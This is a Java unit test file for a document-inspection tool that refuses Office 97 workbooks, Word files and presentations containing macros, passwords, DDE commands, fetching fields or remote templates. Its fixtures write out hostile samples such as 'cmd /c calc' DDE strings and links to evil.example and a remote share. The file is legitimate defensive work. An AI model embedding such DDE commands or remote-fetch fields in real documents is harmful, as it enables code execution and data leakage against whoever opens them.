package org.sluis.inspection;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.sluis.inspection.EmbeddedObject.PACKAGE;
import static org.sluis.inspection.EmbeddedObject.inspect;
import static org.sluis.inspection.EmbeddedObject.number;
import static org.sluis.inspection.EmbeddedObject.passes;
import static org.sluis.inspection.EmbeddedObject.refused;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.sluis.inspection.parsing.ContentNotice;
import org.sluis.inspection.parsing.Rule;

/** Workbooks, documents and presentations of Office 97 inside documents are read in the order their programs read them. */
class OldOfficeObjectsTest {

    @Test
    void workbookOfExcel97IsReadInItsOwnOrder() {
        passes(workbook(record(0x85, sheet(0, 0))));
        refused(workbook(record(0x85, sheet(0, 1))), Rule.MACRO);
        refused(workbook(record(0x2f, new byte[6])), Rule.PASSWORD);
        byte[] behind = Archive.joined(
                record(0x809, beginning(5)),
                record(0x85, sheet(28, 0)),
                record(0x0a, new byte[0]),
                record(0x809, beginning(0x40)),
                record(0x0a, new byte[0]));
        refused(new CompoundSample().stream("Workbook", behind), Rule.MACRO);
        refused(new CompoundSample().stream("Book", behind), Rule.MACRO);
    }

    @Test
    void workbookThatFetchesIsRefusedAndOneOnTheOwnDriveIsANotice() {
        assertThat(refused(workbook(record(0x1ae, book("cmd\3/c calc"))), Rule.DDE)
                        .subject())
                .contains("cmd|/c calc");
        assertThat(refused(workbook(record(0x1ae, book("\1\1@evil\3share\3a.xls"))), Rule.REMOTE_WORKBOOK)
                        .subject())
                .contains("\\\\evil\\share\\a.xls");
        refused(workbook(record(0x1ae, book("\1\5\30https://evil.example/a.xls"))), Rule.REMOTE_WORKBOOK);
        passes(workbook(record(0x1ae, new byte[] {3, 0, 1, 4})));
        Inspection own = inspect(workbook(record(0x1ae, book("\1\1Cwork\3a.xls"))));
        assertThat(own.objection()).isEmpty();
        assertThat(own.notices()).extracting(ContentNotice::kind).containsExactly(ContentNotice.Kind.LINKED_WORKBOOK);
    }

    @Test
    void fieldsOfWord97ThatFetchAreFound() {
        refused(word("text \23 DDEAUTO cmd \"/c calc\" \24x\25"), Rule.DDE);
        assertThat(refused(word("text \23INCLUDEPICTURE \"http://evil.example/x\" \24x\25"), Rule.FETCHING_FIELD)
                        .subject()
                        .orElseThrow())
                .contains("http://evil.example/x");
        passes(word("text \23 PAGE \24" + "1\25 about a link"));
        byte[] locked = new byte[32];
        locked[2] = (byte) 0xc1;
        locked[11] = 1;
        refused(new CompoundSample().stream("WordDocument", locked), Rule.PASSWORD);
    }

    @Test
    void presentationOf97IsReadToItsObjects() throws IOException {
        refused(presentation(atom(0, 0x400, new byte[] {1, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0})), Rule.MACRO);
        refused(
                presentation(atom(0, 0xff3, new byte[] {0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0})),
                Rule.RUNNING_ACTION);
        passes(presentation(atom(0, 0xff3, new byte[] {0, 0, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0})));
        byte[] inner = new CompoundSample().storage("VBA", PACKAGE).bytes();
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        packed.writeBytes(number(inner.length));
        try (DeflaterOutputStream deflating = new DeflaterOutputStream(packed)) {
            deflating.write(inner);
        }
        refused(presentation(atom(1, 0x1011, packed.toByteArray())), Rule.MACRO);
        passes(presentation(atom(0, 0x1011, new CompoundSample().bytes())));
    }

    private static CompoundSample workbook(byte[] record) {
        return new CompoundSample()
                .stream(
                        "Workbook",
                        Archive.joined(record(0x809, beginning(5)), record, record(0x0a, new byte[0]), new byte[3]));
    }

    private static byte[] beginning(int kind) {
        return CompoundSample.little(8, fields -> fields.putShort((short) 0x600).putShort((short) kind));
    }

    private static byte[] sheet(int start, int kind) {
        return CompoundSample.little(
                8, fields -> fields.putInt(start).put((byte) 0).put((byte) kind));
    }

    private static byte[] book(String path) {
        byte[] letters = path.getBytes(ISO_8859_1);
        return Archive.joined(
                CompoundSample.little(5, fields -> fields.putShort((short) 1).putShort((short) letters.length)),
                letters);
    }

    private static byte[] record(int type, byte[] content) {
        return Archive.joined(
                CompoundSample.little(4, fields -> fields.putShort((short) type).putShort((short) content.length)),
                content);
    }

    @ParameterizedTest
    @CsvSource({
        "1, https://evil.example/t.dotm, REMOTE_TEMPLATE",
        "1, \\\\server\\share\\t.dot, NETWORK_SHARE",
        "8, https://evil.example/people.csv, DATA_CONNECTION"
    })
    void templateOfAWordDocumentOnAnotherMachineIsRefused(int index, String path, Rule rule) {
        for (String table : new String[] {"0Table", "1Table"}) {
            assertThat(refused(attached(table, index, path), rule).subject()).contains(path);
        }
    }

    @Test
    void templateOnTheReadersOwnMachineAndAddressInATitlePass() {
        passes(attached("1Table", 1, "C:\\Templates\\Letter.dot"));
        passes(attached("1Table", 2, "https://example.org/"));
        passes(attached("0Table", 1, "Normal.dot"));
    }

    private static CompoundSample attached(String table, int index, String path) {
        byte[] list = CompoundSample.little(6 + 2 * 10 + 2 * path.length(), fields -> {
            fields.putShort((short) 0xffff).putShort((short) 10).putShort((short) 0);
            for (int entry = 0; entry < 10; entry++) {
                String said = entry == index ? path : "";
                fields.putShort((short) said.length()).put(said.getBytes(UTF_16LE));
            }
        });
        byte[] main = CompoundSample.little(
                0x1a2,
                fields -> fields.putShort(2, (short) 0xc1)
                        .putShort(10, (short) (table.startsWith("1") ? 0x200 : 0))
                        .putInt(0x19a, 16)
                        .putInt(0x19e, list.length));
        return new CompoundSample().stream("WordDocument", main).stream(table, Archive.joined(new byte[16], list));
    }

    private static CompoundSample word(String text) {
        byte[] header = new byte[32];
        header[2] = (byte) 0xc1;
        return new CompoundSample().stream("WordDocument", Archive.joined(header, text.getBytes(UTF_16LE)));
    }

    private static CompoundSample presentation(byte[] record) {
        byte[] container = CompoundSample.little(
                8,
                fields -> fields.putShort((short) 0xf).putShort((short) 0x3e8).putInt(record.length));
        return new CompoundSample().stream("PowerPoint Document", Archive.joined(container, record));
    }

    private static byte[] atom(int instance, int type, byte[] content) {
        return Archive.joined(
                CompoundSample.little(
                        8,
                        fields -> fields.putShort((short) (instance << 4))
                                .putShort((short) type)
                                .putInt(content.length)),
                content);
    }
}
